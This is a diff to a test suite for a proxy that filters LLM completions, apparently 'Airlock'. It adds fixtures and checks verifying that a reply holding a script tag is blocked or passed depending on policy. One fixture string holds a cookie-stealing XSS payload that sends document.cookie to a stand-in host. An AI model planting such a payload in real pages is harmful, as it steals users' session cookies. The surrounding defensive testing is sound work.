@@ -243,6 +243,7 @@ def whole_json(text):
 
 
 LONG = TEXT + " Plants release oxygen." * 80
+UNSAFE = "Paste this into the page: <script>fetch('https://x.example/?c='+document.cookie)</script> and reload."
 BIG = ("lorem ipsum dolor sit amet " * 4000)[:100000] + TEXT + (" consectetur" * 9000)[:100000]
 SSE = "text/event-stream"
 
@@ -306,6 +307,11 @@ def shape(name):
                 {"id": "c1", "type": "function", "function": {"name": "pay", "arguments": NUM_ARGS}}]},
              "finish_reason": "tool_calls"}]}).encode()
         return [head("application/json", "length", len(body)), body], False
+    if name == "unsafe_whole":  # an answer holding a script tag
+        body = whole_json(UNSAFE)
+        return [head("application/json", "length", len(body)), body], False
+    if name == "unsafe_sse":
+        return [head(SSE, "chunked")] + chunked(oa_sse(UNSAFE, split=3), [90]), False
     if name == "error_echo":  # an error reply whose message echoes personal data
         body = jd({"error": {"message": "Invalid recipient: " + TEXT, "type": "invalid_request_error",
                              "param": None, "code": None}}).encode()
@@ -771,6 +777,35 @@ def main():
                     parsed.get("phone") == "<PHONE_NUMBER>" and
                     parsed.get("to") == "<EMAIL_ADDRESS>", "got %s" % (
                         sorted(parsed) if isinstance(parsed, dict) else None))
+        # AIRLOCK_COMPLETION_UNSAFE_OUTPUT=block (the README's example policy):
+        # the reply with a script tag came back as it was.  Whole: a
+        # provider-shaped 502 instead; streamed: the stream ends before the
+        # tag.  The default (flag) passes it.
+        for env_block, label in ((shim_env(m.env(), AIRLOCK_COMPLETION_UNSAFE_OUTPUT="block"),
+                                  "block"), (env, "default")):
+            p = run([PY, "-c", REQUESTS_CLIENT, "https://localhost:%d" % tls_port, m.ca, json.dumps(
+                [["unsafe_whole", "/v1/chat/completions"], ["unsafe_sse", "/v1/chat/completions"]])],
+                env=env_block)
+            try:
+                got = json.loads(p.stdout.strip().splitlines()[-1])
+            except (ValueError, IndexError):
+                got = {}
+            st, raw = got.get("unsafe_whole", [0, ""])
+            sst, sraw = got.get("unsafe_sse", [0, ""])
+            if label == "block":
+                try:
+                    err = json.loads(raw).get("error", {}).get("message", "")
+                except (ValueError, AttributeError):
+                    err = ""
+                R.check("requests unsafe_whole, completion block: a provider-shaped 502",
+                        st == 502 and "blocked" in err and "<script" not in raw, (st, raw[:200]))
+                R.check("requests unsafe_sse, completion block: the script never arrives",
+                        "<script" not in "".join(texts("unsafe_sse", sraw)[1]) and "<script" not in sraw,
+                        (sst, sraw[-200:]))
+            else:
+                R.check("requests unsafe_whole, default policy: flagged, passed as it was",
+                        st == 200 and "<script>" in json.loads(raw or "{}").get("choices", [{}])[0]
+                        .get("message", {}).get("content", ""), (st, raw[:200]))
         # An error reply echoing an e-mail, phone, card and SSN: it came back
         # as it was.
         p = run([PY, "-c", REQUESTS_CLIENT, "https://localhost:%d" % tls_port, m.ca, json.dumps(
